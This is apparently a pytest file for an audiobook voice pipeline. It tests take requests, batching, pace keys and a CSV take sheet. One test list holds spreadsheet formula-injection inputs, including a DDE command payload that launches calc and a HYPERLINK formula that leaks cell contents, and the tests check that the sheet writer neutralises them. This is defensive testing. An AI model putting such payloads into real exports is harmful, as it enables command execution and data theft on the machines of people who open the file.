"""Take requests, batches and the take sheet."""

import csv
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.tone import Tone
from pipeline.audio import Clip
from pipeline.engine import Prompt
from pipeline.manifests import Pickup
from pipeline.records import Finding, Take
from pipeline.store import NOT_MADE, CacheEntry, Store
from pipeline.takes import (
    BATCH_LINES,
    COLUMNS,
    WINDOW,
    Failure,
    TakeRequest,
    batches,
    keep_performances,
    read_sheet,
    request_for,
    requests_for,
    write_sheet,
)
from tests.factories import line, tone_voice


def request(number: int, voice: str = "one", characters: int = 5) -> TakeRequest:
    return TakeRequest(f"{number:064}", "x" * characters, "en", voice, number, 0)


def test_equal_text_is_one_take_wherever_it_stands() -> None:
    voice = tone_voice()
    first, second = (
        request_for(line("“Yes.”", number, chapter=chapter), voice) for number, chapter in ((1, 0), (9, 4))
    )
    assert first == second


def test_a_pickup_moves_the_lines_with_these_words_and_no_other() -> None:
    voices = {"tone": tone_voice()}
    lines = [line("Yes."), line("No.", 2)]
    before = requests_for(lines, voices, ())
    after = requests_for(lines, voices, [Pickup(text="No.", attempt=1, reason="swallowed")])
    assert after[0] == before[0]
    assert after[1] != before[1]


def test_a_pace_of_one_is_no_part_of_a_takes_key_and_any_other_is() -> None:
    voice = tone_voice()
    plain, same, fast, equal, slow = (
        request_for(line("Yes, indeed."), voice, pace=pace) for pace in (1.0, 1, 1.25, 1.2500001, 0.8)
    )
    assert plain == same == request_for(line("Yes, indeed."), voice)
    assert fast == equal
    assert len({plain.key, fast.key, slow.key}) == 3
    assert plain.seed == fast.seed == slow.seed
    assert fast.prompts == (replace(plain.prompts[0], pace=1.25),)
    assert round(voice.expected_ms(fast) * 1.25) == voice.expected_ms(plain)


def test_a_take_is_as_long_as_its_pace_wants(tmp_path: Path) -> None:
    voice, store = tone_voice(), Store(tmp_path)
    asked = [request_for(line("A line of some length."), voice, pace=pace) for pace in (1.0, 1.25)]
    kept = keep_performances(store, asked, Tone({}).perform([one.prompts[0] for one in asked]), 0.1, Tone({}))
    plain, fast = (take for take in kept if isinstance(take, Take))
    assert fast.samples == round(plain.samples / 1.25)
    assert not plain.findings + fast.findings
    entries = [store.find("take", one.key) for one in asked]
    assert [entry.inputs.get("pace") for entry in entries if isinstance(entry, CacheEntry)] == [None, 1.25]


def test_a_line_without_a_spoken_form_wants_nothing() -> None:
    assert requests_for([line("* * *").but(spoken="")], {"tone": tone_voice()}, ()) == [None]


@given(st.lists(st.tuples(st.integers(0, 500), st.sampled_from(["one", "two"]), st.integers(1, 300)), max_size=900))
def test_batches_hold_every_request_once_one_voice_each_and_keep_book_order_roughly(
    items: list[tuple[int, str, int]],
) -> None:
    requests = [request(number, voice, size) for number, voice, size in items]
    made = batches(requests)
    once = list({w.key: w for w in requests}.values())
    assert sorted(w.key for batch in made for w in batch) == sorted(w.key for w in once)
    place = {w.key: i for i, w in enumerate(once)}
    for batch in made:
        assert 0 < len(batch) <= BATCH_LINES
        assert len({w.voice for w in batch}) == 1
        places = [place[w.key] for w in batch]
        assert max(places) - min(places) < BATCH_LINES * WINDOW
        assert [len(w.spoken) for w in batch] == sorted((len(w.spoken) for w in batch), reverse=True)


def test_the_first_and_the_last_window_can_be_cut_finer() -> None:
    requests = [request(n, "one", 1 + n % 90) for n in range(2 * BATCH_LINES * WINDOW + 40)]
    sizes = [len(batch) for batch in batches(requests, last=16)]
    assert sizes == [16] * (4 * WINDOW) + [BATCH_LINES] * WINDOW + [16, 16, 8]
    assert {len(batch) for batch in batches(requests, lines=8, last=16)} == {8}
    assert [len(batch) for batch in batches(requests[:20], last=16)] == [16, 4]


def test_the_sheet_has_a_row_a_line_and_is_read_back(tmp_path: Path) -> None:
    path = tmp_path / "takesheet.csv"
    voices = {"tone": tone_voice()}
    lines = [line("One, “two”."), line("Two.", 2), line("Three.", 3), line("—", 4).but(spoken="")]
    requests = requests_for(lines, voices, ())
    assert requests[0]
    assert requests[1]
    assert requests[2]
    take = Take(requests[0].key, "d" * 64, 24_000, 24_000, 5, 10, findings=(Finding("t-003", "take", "short"),))
    write_sheet(
        path, lines, requests, {requests[0].key: take, requests[1].key: Failure("no voice"), requests[2].key: NOT_MADE}
    )
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == COLUMNS
    assert [row["state"] for row in rows] == ["made", "failed", "wanted", "silent"]
    assert rows[0]["milliseconds"] == "1000"
    assert rows[0]["notes"] == "t-003 short"
    assert [row["reason"] for row in rows] == ["", "no voice", NOT_MADE.reason, "nothing to speak"]
    assert [row["attempts"] for row in rows] == ["1", "1", "0", "0"]
    write_sheet(tmp_path / "empty.csv", lines, requests, {})
    assert (tmp_path / "empty.csv").read_text("utf-8").count("wanted,,") == 3  # no reason is known
    before = path.stat().st_ino
    made = {requests[0].key: take, requests[1].key: Failure("no voice"), requests[2].key: NOT_MADE}
    write_sheet(path, lines, requests, made)
    assert path.stat().st_ino == before  # it stands as it would be written
    write_sheet(path, lines, requests, made | {requests[1].key: Failure("no breath")})
    assert path.stat().st_ino != before
    assert read_sheet(path)["One, “two”."] == "One, “two”."
    assert read_sheet(tmp_path / "none.csv") == {}


FORMULAS = [
    "=1+1",
    "+41 44",
    "-5 degrees",
    "@home",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("https://example.org/?"&A1)',
    "＝1",
    "－1",
    "'=1",
    "''=1",
    "'-a",
    "=cmd|' /C calc'!A0",
    "-- he said",
    "-",
]
ORDINARY = ["", "'", "''", "'Tis late.", "“-5”", " =1", "a=1", "— he said", "'a=", "1-2", "#", "'“=1”"]


@pytest.mark.parametrize("text", FORMULAS + ORDINARY)
def test_no_cell_of_the_sheet_is_a_formula_and_none_is_changed_by_that(tmp_path: Path, text: str) -> None:
    path = tmp_path / "takesheet.csv"
    lines = [line(text or "x").but(text=text, spoken=text)]
    write_sheet(path, lines, [None], {})
    with path.open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    for column in COLUMNS:
        assert not re.match("[=+@\t\r\n＝＋－＠-]", row[column])
    assert (row["text"] == text) is (text in ORDINARY)
    assert read_sheet(path) == {text: text}


@pytest.mark.parametrize(
    "data", [b"\xff\xfe\x00", b"text\n", b"text,spoken\nonly one\n", b"\0", b"a,b\n1,2,3,4\n", b'text,spoken\n"x']
)
def test_a_sheet_that_is_none_says_nothing(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "takesheet.csv"
    path.write_bytes(data)
    assert set(read_sheet(path).values()) <= {"", "x"}


def test_why_a_line_failed_is_no_formula_either(tmp_path: Path) -> None:
    path = tmp_path / "takesheet.csv"
    lines = [line("One.")]
    (request,) = requests_for(lines, {"tone": tone_voice()}, ())
    assert request
    write_sheet(path, lines, [request], {request.key: Failure("=1+1")})
    assert ",'=1+1," in path.read_text("utf-8")


def test_a_take_knows_how_much_of_it_is_heard(tmp_path: Path) -> None:
    tone, silence = Tone({}), np.zeros(12_000, np.float32)
    prompt = Prompt("It was late.", "en", 1)
    (performance,) = tone.perform([prompt])
    assert performance.clip
    quiet = replace(performance, clip=Clip(np.concatenate([silence, performance.clip.samples, silence]), 24_000))
    (take,) = keep_performances(Store(tmp_path), [request(1)], [quiet], 0.1, tone)
    assert isinstance(take, Take)
    assert take.duration_ms == performance.clip.duration_ms + 1000
    assert abs(take.heard_ms - performance.clip.duration_ms) < 100
    assert replace(take, heard_samples=None).heard_ms == take.duration_ms
